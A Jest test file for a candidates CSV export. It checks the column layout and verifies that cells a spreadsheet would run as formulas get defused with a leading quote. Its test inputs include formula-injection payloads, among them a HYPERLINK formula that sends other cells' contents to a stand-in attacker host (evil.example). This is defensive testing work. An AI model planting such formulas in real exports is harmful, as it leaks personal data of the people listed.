import Papa from 'papaparse';
import { buildCandidateRow } from '@/testing/handlers/candidates';
import { BOARD_CSV_COLUMNS, boardCsv } from './boardCsv';

describe('the Candidates.csv export', () => {
  it('has the spec columns and one row per accepted candidate', () => {
    const csv = boardCsv([
      buildCandidateRow({
        field_contact_email: 'hedy@example.org',
        field_phone_number: '+43 1 234',
      }),
    ]);
    const rows = Papa.parse<string[]>(csv).data;
    expect(rows[0]).toEqual([...BOARD_CSV_COLUMNS]);
    expect(rows[1]).toEqual([
      'Hedy Lamarr',
      'Austria',
      'Vienna',
      'TypeScript, React, CSS, HTML, GraphQL, Node.js',
      '5-10',
      'hedy@example.org',
      // A phone number is a text formula: spreadsheets show +43 1 234, with no quote before it.
      '="+43 1 234"',
    ]);
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const csv = boardCsv([
      buildCandidateRow({
        field_first_name: '=HYPERLINK("http://evil.example","x")',
        field_last_name: '',
        field_city_text: '+1+1',
        field_candidate_country: '@SUM(A1)',
        field_phone_number: '-2+3',
      }),
    ]);
    const row = Papa.parse<string[]>(csv).data[1];
    expect(row[0]).toBe(`'=HYPERLINK("http://evil.example","x")`);
    expect(row[1]).toBe(`'@SUM(A1)`);
    expect(row[2]).toBe(`'+1+1`);
    expect(row[6]).toBe(`'-2+3`);
  });

  it('keeps phone numbers readable and anything else that starts with + inert', () => {
    const phone = (field_phone_number: string) =>
      Papa.parse<string[]>(boardCsv([buildCandidateRow({ field_phone_number })])).data[1][6];
    expect(phone('+1 555 0101')).toBe('="+1 555 0101"');
    expect(phone('+49 (30) 123-456')).toBe('="+49 (30) 123-456"');
    expect(phone('030 1234567')).toBe('030 1234567');
    // Not a phone number: quotes, letters or a second + could end the string or call something.
    expect(phone('+1" & HYPERLINK("x')).toBe(`'+1" & HYPERLINK("x`);
    expect(phone('+1+1')).toBe(`'+1+1`);
    expect(phone('+1 555\n=1+1')).toBe(`'+1 555\n=1+1`);
  });

  it('defuses a formula that goes on after a line break', () => {
    const city = '=HYPERLINK("http://evil.example/?leak="&F3&F4,\n"Berlin")';
    const csv = boardCsv([
      buildCandidateRow({ field_city_text: city, field_candidate_country: '\t=1+1\nx' }),
    ]);
    const row = Papa.parse<string[]>(csv).data[1];
    expect(row[2]).toBe(`'${city}`);
    expect(row[1]).toBe(`'\t=1+1\nx`);
  });
});
